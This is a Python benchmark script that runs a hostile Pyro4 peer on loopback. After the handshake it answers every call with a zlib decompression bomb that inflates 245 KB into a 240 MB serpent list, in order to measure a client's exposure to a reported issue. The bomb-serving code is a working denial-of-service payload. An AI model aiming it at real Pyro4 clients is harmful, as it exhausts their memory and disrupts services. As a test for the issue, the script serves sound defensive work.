"""bomb.py PORT: a hostile Pyro4 peer for measuring the client (issue 13).

Accepts the handshake like a daemon, then answers every call with the
zlib bomb of issue 13: a 245 KB body inflating to a 240 MB serpent list of
126 million zeros. Prints "URI PYRO:bomb@127.0.0.1:PORT" when ready; runs
until killed. Loopback only.

    /usr/bin/python3 docs/bench/bomb.py 27002 &
    /usr/bin/time -v pyrosh call PYRO:bomb@127.0.0.1:27002 bomb
"""
import socket
import sys
import threading
import zlib

import Pyro4.message as M
import Pyro4.util

SER = Pyro4.util.get_serializer("serpent")
BODY = zlib.compress(b"# serpent utf-8 python3.2\n[" + b"0," * (120 << 20) + b"0]", 9)
META = {"handshake": "hello", "meta": {"methods": ("bomb",), "oneway": (), "attrs": ()}}


def serve(conn):
    with conn:
        while True:
            try:
                msg = M.Message.recv(conn)
            except Exception:
                return
            if msg.type == M.MSG_CONNECT:
                data, _ = SER.serializeData(META, compress=False)
                reply = M.Message(M.MSG_CONNECTOK, data, SER.serializer_id, 0, msg.seq)
            else:
                reply = M.Message(M.MSG_RESULT, BODY, SER.serializer_id, M.FLAGS_COMPRESSED, msg.seq)
            conn.sendall(reply.to_bytes())


def main():
    port = int(sys.argv[1])
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("127.0.0.1", port))
    s.listen(8)
    print("URI PYRO:bomb@127.0.0.1:%d body %d bytes" % (port, len(BODY)), flush=True)
    while True:
        conn, _ = s.accept()
        threading.Thread(target=serve, args=(conn,), daemon=True).start()


if __name__ == "__main__":
    main()
